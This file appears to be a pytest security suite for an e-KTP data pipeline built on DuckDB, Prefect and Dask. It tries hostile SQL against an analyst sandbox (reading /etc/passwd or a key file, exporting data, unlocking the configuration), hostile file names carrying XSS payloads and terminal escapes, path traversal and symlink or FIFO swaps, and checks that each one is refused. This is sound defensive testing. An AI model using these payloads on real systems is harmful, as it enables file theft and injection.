"""Issue 10: the privacy promise, tried as a hostile user would (contract sections 3 and 5).

Each test makes one attack and checks that it fails: an analyst's SQL that reads files, attaches
the writer's warehouse or unlocks the configuration; person-level rows in the analysts' copy; the
key next to the data, another key, a version-1 key file; names typed into ``id_alat``; file names
carrying a NIK, a name, Markdown, HTML or terminal escapes; folders nested a thousand deep; a file
of broken quotes; a file swapped for a link or a FIFO between listing and reading; loose file
modes; a data directory or a bad date sent through the Prefect API; a Dask scheduler in clear;
library text quoting a NIK. The last test upgrades a warehouse built by the version-1 code.
"""

from __future__ import annotations

import hashlib
import hmac
import importlib.util
import os
import re
import signal
import stat
import subprocess
import sys
from contextlib import contextmanager, redirect_stdout
from io import StringIO
from pathlib import Path

import duckdb
import pytest

from flows.cli import main
from flows.settings import FINGERPRINT_LABEL
from tests.helpers import HEADER, Landing, row

KEY = os.environ["EKTP_NIK_KEY"]
EKTP = os.path.join(os.path.dirname(sys.executable), "ektp")
HOSTILE_NAME = "1609015205900001 SITI AMINAH lahir 1990-05-12.csv"
V1 = Path(__file__).parent / "fixtures" / "v1"


def _h(rel: str, key: str = KEY) -> str:
    return hmac.new(key.encode(), rel.encode(), hashlib.sha256).hexdigest()[:12]


def _one_line(capsys) -> str:
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err, err
    return err


def _error_line(capsys) -> str:
    """The one error line of a command that may also have printed progress lines."""
    err = capsys.readouterr().err
    lines = [ln for ln in err.splitlines() if ln.startswith("ektp: ")]
    assert len(lines) == 1 and "Traceback" not in err, err
    return lines[0]


def _text_of(path: Path) -> str:
    """Every value of every text column of every table and view of a DuckDB file."""
    con = duckdb.connect(str(path), read_only=True)
    try:
        cols = con.execute("""select table_schema, table_name, column_name from information_schema.columns
                              where data_type like 'VARCHAR%'""").fetchall()
        return "\n".join(str(v) for s, t, c in cols
                         for (v,) in con.execute(f'select distinct "{c}" from "{s}"."{t}" where "{c}" is not null').fetchall())
    finally:
        con.close()


@contextmanager
def _deadline(seconds: int):
    """Fail instead of hanging (a FIFO read would block forever)."""
    def boom(*_):
        raise AssertionError(f"still blocked after {seconds} s")
    old = signal.signal(signal.SIGALRM, boom)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)


def _small_zone(landing: Landing) -> Landing:
    landing.snapshot()
    landing.log("2025-01-01", "16.09.01", [row(waktu="2025-01-01 08:00:00"),
                                           row(nik="1609014501010002", waktu="2025-01-01 09:00:00")])
    return landing


@pytest.fixture(scope="module")
def published(prefect_api, tmp_path_factory) -> Landing:
    """One run over a small zone: the analysts' copy the sandbox tests attack."""
    landing = _small_zone(Landing(tmp_path_factory.mktemp("sandbox") / "data"))
    landing.log("2025-01-02", "16.09.02", [row(nik="1609014501010003", desa="16.09.02.2012", waktu="2025-01-02 08:00:00")])
    landing.run("2025-01-02")
    return landing


# --- 1. the analyst sandbox ---------------------------------------------------------------------

ATTACKS = {
    "read_text_of_a_key_file": "select content from read_text('{data}/.ektp_nik_key')",
    "read_text_of_etc_passwd": "select content from read_text('/etc/passwd')",
    "read_csv_of_the_raw_logs": "select * from read_csv('{data}/raw/rekam/*/*.csv')",
    "read_a_raw_log_by_its_name": "select * from '{data}/raw/rekam/2025-01-01/16.09.01.csv'",
    "glob_the_landing_zone": "select * from glob('{data}/raw/**')",
    "copy_to_a_file": "copy (select * from mart.backlog) to '/tmp/ektp-stolen.csv'",
    "export_database": "export database '/tmp/ektp-stolen'",
    "attach_the_writers_file": "attach '{data}/warehouse/ektp.duckdb' as w",
    "attach_a_new_file": "attach '/tmp/ektp-new.duckdb' as n",
    "install_an_extension": "install httpfs",
    "load_an_extension": "load httpfs",
    "set_external_access_on": "set enable_external_access = true",
    "reset_external_access": "reset enable_external_access",
    "unlock_the_configuration": "set lock_configuration = false",
    "raise_the_memory_limit": "set memory_limit = '64GB'",
    "raise_the_threads": "set threads = 64",
    "point_the_temp_directory_elsewhere": "set temp_directory = '/tmp/ektp-spill'",
    "read_an_environment_variable": "select getenv('EKTP_NIK_KEY')",
    "write_to_the_copy": "delete from mart.backlog",
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_the_analyst_sandbox_refuses(published, capsys, attack):
    (published.data_dir / ".ektp_nik_key").write_text("a-key-that-must-stay-unread-0123456789\n")
    try:
        sql = ATTACKS[attack].format(data=published.data_dir)
        capsys.readouterr()
        assert main(["query", "--data-dir", str(published.data_dir), sql]) == 1
        err = _one_line(capsys)
        assert err.startswith("ektp: query failed: "), err
        out = capsys.readouterr().out
        assert "a-key-that-must-stay-unread" not in out + err and "root:" not in out
    finally:
        (published.data_dir / ".ektp_nik_key").unlink()
    for leftover in ("/tmp/ektp-stolen.csv", "/tmp/ektp-stolen", "/tmp/ektp-new.duckdb", "/tmp/ektp-spill"):
        assert not os.path.exists(leftover), leftover
    assert published.query("select count(*) from mart.backlog", published=True)[0][0] > 0


def test_the_sandbox_runs_with_the_memory_thread_and_time_limits_of_the_settings(published, capsys, monkeypatch):
    monkeypatch.setenv("EKTP_QUERY_MEMORY", "300MB")
    monkeypatch.setenv("EKTP_QUERY_THREADS", "1")
    assert main(["query", "--data-dir", str(published.data_dir), "--format", "csv",
                 "select current_setting('memory_limit')::varchar as m, current_setting('threads')::varchar as t, "
                 "current_setting('enable_external_access')::varchar as e, "
                 "current_setting('lock_configuration')::varchar as l"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[1].split(",")[1:] == ["1", "false", "true"] and out[1].split(",")[0].startswith("28"), out   # 300 MB = 286 MiB
    assert main(["query", "--data-dir", str(published.data_dir),
                 "select list(range) from range(400000000)"]) == 1                         # over the memory limit
    assert "query failed" in _one_line(capsys)
    monkeypatch.setenv("EKTP_QUERY_TIMEOUT", "1")
    assert main(["query", "--data-dir", str(published.data_dir),
                 "select count(*) from range(100000000) a, range(10000) b"]) == 1   # a runaway cross join (its small
    # side fits in memory: with no spill folder a join that needs more fails at the memory limit instead)
    assert "query stopped after 1 s" in _one_line(capsys)


def test_the_console_script_refuses_a_file_read_with_one_line_and_exit_1(published):
    res = subprocess.run([EKTP, "query", "--data-dir", str(published.data_dir), "select * from read_text('/etc/passwd')"],
                         capture_output=True, text=True, timeout=60)
    assert res.returncode == 1 and res.stderr.count("\n") == 1 and "root:" not in res.stdout + res.stderr
    assert res.stderr.startswith("ektp: query failed: Permission Error")


# --- 2. the analysts' copy: aggregates and dimensions, readable by the analysts' own tools ------

def test_the_analysts_copy_has_no_row_per_person_or_recording(published):
    from flows.outputs.publish import FORBIDDEN_COLUMNS

    con = duckdb.connect(str(published.published), read_only=True)
    try:
        relations = sorted(f"{s}.{t}" for s, t in con.execute(
            "select table_schema, table_name from information_schema.tables").fetchall())
        columns = {c for (c,) in con.execute("select distinct column_name from information_schema.columns").fetchall()}
        storage = con.execute("select tags['storage_version'] from duckdb_databases()"
                              " where database_name = current_database()").fetchone()[0]
    finally:
        con.close()
    assert not any(r.startswith(("landing.", "staging.")) for r in relations), relations
    assert not {"core.recording", "core.first_recording", "audit.quarantine", "audit.warehouse_key"} & set(relations)
    assert {"mart.backlog", "mart.backlog_kecamatan", "core.desa", "audit.file_loads", "audit.quarantine_summary"} <= set(relations)
    assert not columns & FORBIDDEN_COLUMNS, columns & FORBIDDEN_COLUMNS
    assert stat.S_IMODE(published.published.stat().st_mode) == 0o644
    # the writer's file still has every row, for the operators
    assert published.query("select count(*) from landing.rekam")[0][0] == 3
    assert storage.startswith("v1."), storage       # the format DuckDB 1.1 and later read


def test_the_newest_duckdb_cli_opens_the_copy_and_sums_the_backlog(published):
    cli = Path(sys.executable).with_name("duckdb")
    assert cli.exists(), "duckdb-cli is a test dependency (requirements.lock)"
    version = subprocess.run([str(cli), "--version"], capture_output=True, text=True).stdout
    assert version.startswith("v1."), version
    res = subprocess.run([str(cli), "-readonly", "-csv", str(published.published), "-c",
                          "select sum(belum_rekam) as b from mart.backlog_kecamatan "
                          "where as_of_date = (select max(as_of_date) from mart.backlog_kecamatan)"],
                         capture_output=True, text=True, timeout=60)
    assert res.returncode == 0, res.stderr
    expected = published.query("""select sum(belum_rekam) from mart.backlog_kecamatan
                                   where as_of_date = (select max(as_of_date) from mart.backlog_kecamatan)""")[0][0]
    assert res.stdout.split() == ["b", str(expected)]


# --- 3. the key ------------------------------------------------------------------------------

def test_a_key_file_inside_the_data_directory_is_refused_even_with_the_key_set(tmp_path, capsys):
    landing = _small_zone(Landing(tmp_path / "data"))
    (landing.data_dir / ".ektp_nik_key").write_text(KEY + "\n")
    assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-01"]) == 1
    err = _one_line(capsys)
    assert "inside the data directory" in err and "mv " in err and "EKTP_NIK_KEY_FILE" in err
    assert KEY not in err
    assert not (landing.data_dir / "warehouse").exists()
    (landing.data_dir / ".ektp_nik_key").unlink()
    (landing.data_dir / "warehouse").mkdir()
    (landing.data_dir / "warehouse" / "nik.key").write_text(KEY + "\n")
    assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-01"]) == 1
    assert "inside the data directory" in _one_line(capsys)


def test_a_key_file_named_inside_the_data_directory_is_refused(tmp_path, capsys, monkeypatch):
    landing = _small_zone(Landing(tmp_path / "data"))
    inside = landing.data_dir / "secrets" / "k"
    inside.parent.mkdir()
    inside.write_text(KEY + "\n")
    inside.chmod(0o600)
    monkeypatch.delenv("EKTP_NIK_KEY")
    monkeypatch.setenv("EKTP_NIK_KEY_FILE", str(inside))
    assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-01"]) == 1
    assert "lies inside the data directory" in _one_line(capsys)


def test_keygen_writes_outside_the_data_directory_and_refuses_inside(tmp_path, capsys, monkeypatch):
    monkeypatch.delenv("EKTP_NIK_KEY")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    data = tmp_path / "data"
    assert main(["keygen", "--data-dir", str(data)]) == 0
    default = tmp_path / "config" / "ektp" / "nik.key"
    assert stat.S_IMODE(default.stat().st_mode) == 0o600 and len(default.read_text().strip()) == 64
    capsys.readouterr()
    assert main(["keygen", "--data-dir", str(data), "--out", str(data / "nik.key")]) == 1
    assert "inside the data directory" in _one_line(capsys)
    assert not (data / "nik.key").exists()


def test_a_run_with_a_key_from_a_file_outside_records_only_a_fingerprint(prefect_api, tmp_path, monkeypatch):
    landing = _small_zone(Landing(tmp_path / "data"))
    key_file = tmp_path / "outside" / "nik.key"
    key_file.parent.mkdir()
    key_file.write_text(KEY + "\n")
    key_file.chmod(0o600)
    monkeypatch.delenv("EKTP_NIK_KEY")
    monkeypatch.setenv("EKTP_NIK_KEY_FILE", str(key_file))
    landing.run("2025-01-01")
    [(fp, proven_by)] = landing.query("select fingerprint, proven_by from audit.warehouse_key")
    assert fp == hmac.new(KEY.encode(), FINGERPRINT_LABEL, hashlib.sha256).hexdigest() and proven_by == "new warehouse"
    for path in (landing.warehouse, landing.published):
        text = _text_of(path)
        assert KEY not in text
    assert fp not in _text_of(landing.published)       # the fingerprint stays with the operators


def test_a_run_under_another_key_stops_before_changing_anything(prefect_api, tmp_path, capsys, monkeypatch):
    landing = _small_zone(Landing(tmp_path / "data"))
    landing.run("2025-01-01")
    landing.log("2025-01-02", "16.09.01", [row(nik="1609014501010009", waktu="2025-01-02 08:00:00")])
    before = hashlib.sha256(landing.warehouse.read_bytes()).hexdigest()
    published = landing.published.read_bytes()
    monkeypatch.setenv("EKTP_NIK_KEY", "another-key-of-a-new-keygen-0123456789")
    capsys.readouterr()
    assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-02"]) == 1
    err = _one_line(capsys)
    assert "not the key the warehouse" in err and "nothing was changed" in err
    assert hashlib.sha256(landing.warehouse.read_bytes()).hexdigest() == before
    assert landing.published.read_bytes() == published
    assert landing.query("select count(*) from audit.runs") == [(1,)]


def _forget_fingerprint(landing: Landing) -> None:
    con = duckdb.connect(str(landing.warehouse))
    try:
        con.execute("drop table audit.warehouse_key")
    finally:
        con.close()


def test_a_warehouse_without_a_fingerprint_proves_the_key_through_a_rows_lineage(prefect_api, tmp_path, capsys, monkeypatch):
    landing = _small_zone(Landing(tmp_path / "data"))
    landing.run("2025-01-01")
    _forget_fingerprint(landing)                        # as version 1 left it
    before = hashlib.sha256(landing.warehouse.read_bytes()).hexdigest()
    monkeypatch.setenv("EKTP_NIK_KEY", "a-fresh-keygen-answer-to-a-refusal-0123")
    capsys.readouterr()
    assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-01"]) == 1
    assert "re-read from its raw file" in _one_line(capsys)
    assert hashlib.sha256(landing.warehouse.read_bytes()).hexdigest() == before
    monkeypatch.setenv("EKTP_NIK_KEY", KEY)
    landing.run("2025-01-01")
    assert landing.query("select proven_by from audit.warehouse_key") == [("rekam/2025-01-01/16.09.01.csv line 2",)]


def test_a_warehouse_without_a_fingerprint_whose_raw_files_are_gone_is_refused(prefect_api, tmp_path, capsys):
    landing = _small_zone(Landing(tmp_path / "data"))
    landing.run("2025-01-01")
    _forget_fingerprint(landing)
    (landing.raw / "rekam" / "2025-01-01" / "16.09.01.csv").write_text(HEADER + "\n")   # re-sent, lines moved
    capsys.readouterr()
    assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-01"]) == 1
    assert "cannot prove its key" in _one_line(capsys)


# --- 4. names typed into id_alat ------------------------------------------------------------------

def test_a_name_and_birth_date_typed_into_id_alat_or_a_swapped_header_are_quarantined(prefect_api, tmp_path):
    landing = Landing(tmp_path / "data")
    landing.snapshot()
    landing.log("2025-01-01", "16.09.01", [row(alat="HP OPR SITI AMINAH lahir 12/05/1990", waktu="2025-01-01 08:00:00"),
                                           row(nik="1609014501010002", alat="kec-16.09.01/a_1", waktu="2025-01-01 09:00:00")])
    swapped = HEADER.replace("nama", "tmp").replace("id_alat", "nama").replace("tmp", "id_alat")
    landing.log("2025-01-01", "16.09.02", text=swapped + "\n" + row(nik="1609014501010003", nama="Dewi Lestari",
                                                                    alat="DINAS-01", waktu="2025-01-01 10:00:00") + "\n")
    landing.run("2025-01-01")
    assert landing.query("select source_file, line_number, reason from audit.quarantine order by all") == [
        ("rekam/2025-01-01/16.09.01.csv", 2, "id_alat_invalid"), ("rekam/2025-01-01/16.09.02.csv", 2, "id_alat_invalid")]
    assert landing.query("select id_alat from landing.rekam") == [("KEC-16.09.01/A_1",)]      # stored upper-cased
    for path in (landing.warehouse, landing.published):
        text = _text_of(path).upper()
        for secret in ("SITI", "AMINAH", "12/05/1990", "DEWI", "LESTARI"):
            assert secret not in text, (path.name, secret)


# --- 5. hostile file names ------------------------------------------------------------------------

BAD_NAMES = {
    f"rekam/2025-01-01/{HOSTILE_NAME}": "rekam/2025-01-01/#{h}",
    "rekam/2025-01-01/[click](javascript:alert(1)).csv": "rekam/2025-01-01/#{h}",
    "rekam/2025-01-01/<img src=x onerror=alert(1)>.csv": "rekam/2025-01-01/#{h}",
    "rekam/2025-01-01/\x1b]0;pwned\x07\x1b[2J.csv": "rekam/2025-01-01/#{h}",
    "rekam/SITI AMINAH 1990/16.09.01.csv": "rekam/?/#{h}",
    "rekam/2025-01-01/extra/16.09.01.csv": "rekam/2025-01-01/#{h}",
    "penduduk/SITI AMINAH.csv": "penduduk/#{h}",
    "permohonan/sub/2025-01-01.csv": "permohonan/#{h}",
    "permohonan/SITI AMINAH 1990-05-12.csv": "permohonan/#{h}",
    "SITI AMINAH.xlsx": "?/#{h}",
    "kiriman/1609015205900001.csv": "?/#{h}",
}
NAME_SECRETS = ("SITI", "AMINAH", "1609015205900001", "1990-05-12", "javascript", "<img", "onerror", "pwned", "\x1b")


@pytest.fixture(scope="module")
def named_run(prefect_api, tmp_path_factory):
    landing = _small_zone(Landing(tmp_path_factory.mktemp("names") / "data"))
    body = (HEADER + "\n" + row(nik="1609014501010005", waktu="2025-01-01 10:00:00") + "\n").encode()
    for rel in BAD_NAMES:
        path = landing.raw / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(body)
    out = StringIO()
    with redirect_stdout(out):
        assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-01"]) == 0
    return landing, out.getvalue()


def test_a_file_rejected_for_its_name_is_stored_only_by_its_keyed_hash(named_run):
    landing, _ = named_run
    got = dict(landing.query("select source_file, error from audit.file_loads where status = 'rejected'"))
    want = {form.format(h=_h(rel)): rel for rel, form in BAD_NAMES.items()}
    assert set(got) == set(want)
    for error in got.values():
        assert error.split(":")[0] in ("unknown_kecamatan", "folder_not_a_date", "unexpected_path", "name_not_a_date")
    # a plain (unkeyed) hash of the path would let a NIK in a name be enumerated: not used
    assert not any(hashlib.sha256(rel.encode()).hexdigest()[:12] in s for rel in BAD_NAMES for s in got)


def test_a_hostile_name_reaches_no_table_run_record_report_artifact_log_or_console(named_run):
    from prefect.client.orchestration import get_client

    landing, console = named_run
    report = (landing.data_dir / "warehouse" / "report.html").read_text(encoding="utf-8")
    with get_client(sync_client=True) as client:
        artifacts = "\n".join(str(a.data) for a in client.read_artifacts())
        logs = "\n".join(lg.message for lg in client.read_logs())
    places = {"warehouse": _text_of(landing.warehouse), "analysts' copy": _text_of(landing.published),
              "report": report, "artifacts": artifacts, "logs": logs, "console": console}
    for where, text in places.items():
        for secret in NAME_SECRETS:
            assert secret not in text, (where, secret)
    assert "#" + _h(f"rekam/2025-01-01/{HOSTILE_NAME}") in console


def test_ektp_rejects_lists_the_local_paths_on_the_terminal_with_control_characters_escaped(named_run):
    landing, _ = named_run
    res = subprocess.run([EKTP, "rejects", "--data-dir", str(landing.data_dir)], capture_output=True, text=True,
                         timeout=60, env={**os.environ, "EKTP_NIK_KEY": KEY})
    assert res.returncode == 0, res.stderr
    assert HOSTILE_NAME in res.stdout and "#" + _h(f"rekam/2025-01-01/{HOSTILE_NAME}") in res.stdout
    assert "\x1b" not in res.stdout and "\x07" not in res.stdout
    assert "\\x1b]0;pwned\\x07\\x1b[2J.csv" in res.stdout
    assert len([ln for ln in res.stdout.splitlines() if "\t" in ln]) == len(BAD_NAMES)


def test_markdown_html_and_terminal_escaping_leave_no_link_image_markup_or_control_sequence():
    from markdown_it import MarkdownIt

    from flows.escape import terminal
    from flows.outputs.artifact import run_markdown
    from flows.outputs.report.render import environment
    from flows.outputs.runsummary import RejectedFile, RunSummary

    summary = RunSummary(run_id="r", last_date="2025-01-01", files_rejected=1,
                         missing_logs_on_last_date=["16.09.01 <b>x</b>"],
                         rejected_files=[RejectedFile("[click](http://evil.example) ![i](http://evil.example/i.png)",
                                                      "<img src=x onerror=alert(1)> | `code` *em*")])
    html = MarkdownIt("commonmark").enable("table").render(run_markdown(summary))
    assert "<a " not in html and "<img" not in html and "<b>" not in html and "<code>" not in html and "<em>" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    shown = environment().from_string("{{ v }}").render(v="<script>alert(1)</script> http://evil.example")
    assert "<" not in shown.replace("&lt;", "") and "://" not in shown
    assert terminal("a\x1b[31mb\u202ec\nd") == "a\\x1b[31mb\\u202ec\\x0ad"


# --- 6. deep folders --------------------------------------------------------------------------------

def test_a_thousand_nested_folders_are_reported_never_fatal(prefect_api, tmp_path):
    landing = _small_zone(Landing(tmp_path / "data"))
    fd = os.open(landing.raw / "rekam", os.O_RDONLY)
    try:
        for _ in range(1100):                     # deeper than any path API's recursion
            os.mkdir("d", dir_fd=fd)
            nxt = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = nxt
        with os.fdopen(os.open("16.09.01.csv", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd), "w") as fh:
            fh.write(HEADER + "\n")
    finally:
        os.close(fd)
    try:
        summary = landing.run("2025-01-01")
        deep = [r for r in summary.rejected_files if r.error.startswith("folder_too_deep")]
        assert len(deep) == 1 and re.fullmatch(r"rekam/\?/#[0-9a-f]{12}", deep[0].source_file)
        assert summary.files_loaded == 2 and summary.rows_loaded == 2
        assert landing.run("2025-01-01").files_rejected == 0        # reported once, then known
    finally:
        _remove_deep(landing.raw / "rekam" / "d")


def _remove_deep(top: Path) -> None:
    """Remove a deep chain of folders without recursion (shutil.rmtree recurses on Python 3.11)."""
    chain = [os.open(top, os.O_RDONLY)]
    while True:
        try:
            chain.append(os.open("d", os.O_RDONLY, dir_fd=chain[-1]))
        except FileNotFoundError:
            break
    for name in os.listdir(chain[-1]):
        os.unlink(name, dir_fd=chain[-1])
    while len(chain) > 1:
        os.close(chain.pop())
        os.rmdir("d", dir_fd=chain[-1])
    os.close(chain[0])
    top.rmdir()


# --- 7. a file of broken quotes ----------------------------------------------------------------------

def test_a_file_of_broken_quotes_is_read_in_linear_time(monkeypatch):
    """Counted, not timed: the physical lines the csv reader pulls. 4x the lines must cost at
    most 6x the work (the old recovery re-read the rest of the file after every broken record).
    The wall-clock figures (a 300,000-line file) are in the benchmark, tests/bench/security.py."""
    from flows.ingest import read
    from flows.ingest.read import REKAM_COLUMNS, parse_file

    pulled = [0]
    real_next = read._Lines.__next__

    def counting_next(self):
        pulled[0] += 1
        return real_next(self)
    monkeypatch.setattr(read._Lines, "__next__", counting_next)
    work = {}
    for pattern in ('"a"b\n', '"a\n', '1,"x\n'):
        for n in (10_000, 40_000):
            pulled[0] = 0
            got = parse_file((HEADER + "\n" + pattern * n).encode(), REKAM_COLUMNS)
            assert got.rows.height + len(got.malformed) <= n
            work[pattern, n] = pulled[0]
        assert work[pattern, 40_000] <= 6 * work[pattern, 10_000], work


# --- 8. swapped between listing and reading ------------------------------------------------------------

def _swap_after_listing(monkeypatch, swap) -> None:
    from flows.ingest.landing import LandingZone

    real_walk = LandingZone.walk

    def walk(self, *a, **kw):
        entries = real_walk(self, *a, **kw)
        swap()
        return entries
    monkeypatch.setattr(LandingZone, "walk", walk)


def test_a_file_swapped_for_a_symlink_after_listing_is_never_followed(prefect_api, tmp_path, monkeypatch):
    landing = _small_zone(Landing(tmp_path / "data"))
    victim = landing.log("2025-01-01", "16.09.03", [row(nik="1609014501010007", waktu="2025-01-01 10:00:00")])
    outside = tmp_path / "outside.csv"
    outside.write_text(HEADER + "\n" + row(nik="1609014501010008", waktu="2025-01-01 11:00:00") + "\n")
    folder_victim = landing.log("2025-01-01", "16.09.04", [row(nik="1609014501010006", waktu="2025-01-01 10:00:00")])
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "x").mkdir(parents=True)

    def swap():
        victim.unlink()
        victim.symlink_to(outside)                      # the file itself becomes a link
        moved = landing.raw / "rekam" / "2025-01-01"
        os.rename(moved, elsewhere / "x" / "2025-01-01")   # the folder on the way becomes a link
        moved.symlink_to(elsewhere / "x" / "2025-01-01")
    _swap_after_listing(monkeypatch, swap)
    with _deadline(120):
        summary = landing.run("2025-01-01")
    rejected = {r.source_file: r.error.split(":")[0] for r in summary.rejected_files}
    assert rejected == {"rekam/2025-01-01/16.09.01.csv": "symlink", "rekam/2025-01-01/16.09.03.csv": "symlink",
                        "rekam/2025-01-01/16.09.04.csv": "symlink"}
    assert landing.query("select count(*) from landing.rekam") == [(0,)]
    assert folder_victim.name == "16.09.04.csv"


def test_a_fifo_swapped_in_after_listing_cannot_hang_the_run(prefect_api, tmp_path, monkeypatch):
    landing = _small_zone(Landing(tmp_path / "data"))
    victim = landing.log("2025-01-01", "16.09.05", [row(nik="1609014501010007", waktu="2025-01-01 10:00:00")])

    def swap():
        victim.unlink()
        os.mkfifo(victim)
    _swap_after_listing(monkeypatch, swap)
    with _deadline(120):
        summary = landing.run("2025-01-01")
    assert [(r.source_file, r.error.split(":")[0]) for r in summary.rejected_files] == [
        ("rekam/2025-01-01/16.09.05.csv", "not_a_regular_file")]
    assert summary.rows_loaded == 2


def test_the_bytes_parsed_are_the_bytes_hashed(tmp_path):
    from flows.ingest.landing import LandingZone

    raw = tmp_path / "raw"
    (raw / "rekam" / "2025-01-01").mkdir(parents=True)
    path = raw / "rekam" / "2025-01-01" / "16.09.01.csv"
    data = (HEADER + "\n" + row() + "\n").encode()
    path.write_bytes(data)
    with LandingZone(raw) as zone:
        got = zone.read("rekam/2025-01-01/16.09.01.csv", 1 << 20)
    assert got.data == data and got.sha256 == hashlib.sha256(data).hexdigest() and got.size == len(data)


# --- 9. file modes ----------------------------------------------------------------------------------------

def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_operators_files_are_600_and_the_analysts_copy_stays_readable(prefect_api, tmp_path):
    landing = _small_zone(Landing(tmp_path / "data"))
    old = os.umask(0o022)
    try:
        landing.run("2025-01-01")
        wh = landing.data_dir / "warehouse"
        # loosen everything as an earlier version (or a careless copy) would have left it
        for p in (landing.warehouse, wh / ".ektp.lock"):
            p.chmod(0o644)
        os.link(landing.published, wh / "backups" / "ektp-20250101T000000000000-abcd.duckdb")   # v1: a hard link
        (wh / "backups").chmod(0o755)
        landing.log("2025-01-02", "16.09.01", [row(nik="1609014501010004", waktu="2025-01-02 08:00:00")])
        landing.run("2025-01-02")
    finally:
        os.umask(old)
    assert _mode(landing.warehouse) == 0o600 and _mode(wh / ".ektp.lock") == 0o600
    assert _mode(wh / "backups") == 0o700
    assert all(_mode(p) == 0o600 for p in (wh / "backups").iterdir())
    assert _mode(landing.published) == 0o644 and _mode(wh) & 0o005 == 0o005 and _mode(wh / "report.html") == 0o644
    newest = sorted((wh / "backups").glob("ektp-2026*.duckdb"))[-1]
    assert duckdb.connect(str(newest), read_only=True).execute("select count(*) from landing.rekam").fetchone() == (3,)


def test_the_writers_wal_is_created_owner_only_while_a_run_writes(tmp_path):
    from flows.warehouse.database import private_files

    path = tmp_path / "ektp.duckdb"
    old = os.umask(0o022)
    try:
        with private_files():
            con = duckdb.connect(str(path))
            con.execute("set checkpoint_threshold = '1GB'")
            con.execute("create table t as select range as i from range(1000)")
            con.execute("insert into t select range from range(1000)")
            wal = path.with_name(path.name + ".wal")
            assert wal.exists()                      # the WAL is there while the writer is open
            assert _mode(wal) == 0o600 and _mode(path) == 0o600
            con.close()
    finally:
        os.umask(old)


# --- 10. Prefect and Dask -----------------------------------------------------------------------------------

@pytest.mark.slow
def test_the_deployments_take_no_data_directory_and_their_dates_carry_a_pattern(served):
    from tests.served import deployment

    api, _, _ = served
    for flow, name in (("ektp-nightly", "nightly"), ("ektp-backfill", "backfill")):
        d = deployment(api, flow, name)
        props = d["parameter_openapi_schema"]["properties"]
        assert "data_dir" not in props and d["parameters"] == {}
        assert d["parameter_openapi_schema"]["additionalProperties"] is False      # nothing else is accepted
        dates = [p for p in props.values() if "date" in str(p)]
        assert dates and all("pattern" in str(p) and "'format': 'date'" in str(p) for p in dates), props


@pytest.mark.slow
def test_the_ui_still_offers_a_date_picker_for_the_patterned_dates(served):
    """`pattern` next to `format: date` (json_schema_extra) keeps the Prefect UI's date input."""
    from tests.browser import open_page, require_chromium
    from tests.served import deployment, ui_login

    require_chromium()
    api, _, _ = served
    b = deployment(api, "ektp-backfill", "backfill")
    with open_page(name="prefect-ui-backfill-run-form", timeout_ms=60000) as s:
        ui_login(s, api[: -len("/api")])
        s.goto(f"{api[: -len('/api')]}/deployments/deployment/{b['id']}/run")
        s.page.get_by_text("kecamatan").first.wait_for(timeout=60000)
        pickers = s.page.locator(".p-date-input")
        assert pickers.count() == 2                    # start and end
        assert s.page.get_by_text("Select date").count() == 2
        s.screenshot("prefect-ui-backfill-run-form.png")


@pytest.mark.slow
@pytest.mark.parametrize("params", [{"start": "2025-13-01", "end": "2025-01-02"}, {"start": "yesterday", "end": "2025-01-02"},
                                    {"start": "2025-01-01", "end": "2025-01-02", "kecamatan": ["../../etc"]},
                                    {"start": "2025-01-01", "end": "2025-01-02", "data_dir": "/etc"}])
def test_the_api_refuses_a_malformed_date_or_a_data_directory_before_a_run_exists(served, params):
    from tests.served import call, deployment

    api, _, _ = served
    b = deployment(api, "ektp-backfill", "backfill")
    of_backfill = {"deployments": {"id": {"any_": [b["id"]]}}}
    before = call("POST", f"{api}/flow_runs/count", json=of_backfill).json()
    r = call("POST", f"{api}/deployments/{b['id']}/create_flow_run", json={"parameters": params})
    assert r.status_code in (409, 422), r.text
    assert call("POST", f"{api}/flow_runs/count", json=of_backfill).json() == before


@pytest.mark.slow
def test_a_date_that_fits_the_pattern_but_does_not_exist_fails_at_once_naming_the_parameter(served):
    from tests.served import call, deployment, wait_run

    api, land, _ = served
    runs = land.query("select count(*) from audit.runs")[0][0] if land.warehouse.exists() else 0
    n = deployment(api, "ektp-nightly", "nightly")
    r = call("POST", f"{api}/deployments/{n['id']}/create_flow_run", json={"parameters": {"run_date": "2025-02-30"}})
    assert r.status_code == 201, r.text
    fr = wait_run(api, r.json()["id"])
    message = fr["state"]["message"] or ""
    assert fr["state"]["type"] == "FAILED" and "run_date" in message and "\n" not in message.strip(), message
    assert (land.query("select count(*) from audit.runs")[0][0] if land.warehouse.exists() else 0) == runs


@pytest.mark.parametrize("address", ["tcp://scheduler:8786", "ws://scheduler:8786", "scheduler:8786", "tls://"])
def test_a_dask_scheduler_without_tls_is_refused(tmp_path, capsys, address):
    landing = _small_zone(Landing(tmp_path / "data"))
    assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-01", "--dask", address]) == 1
    assert "tls://" in _one_line(capsys)
    assert not (landing.data_dir / "warehouse").exists()


def test_a_tls_scheduler_without_certificates_is_refused(tmp_path, capsys):
    landing = _small_zone(Landing(tmp_path / "data"))
    assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-01", "--dask", "tls://127.0.0.1:1"]) == 1
    assert "certificates" in _one_line(capsys)


# --- 11. exception text ------------------------------------------------------------------------------------

def test_library_text_reaches_the_terminal_only_with_v(prefect_api, tmp_path, capsys, monkeypatch):
    from flows.orchestration import run as steps

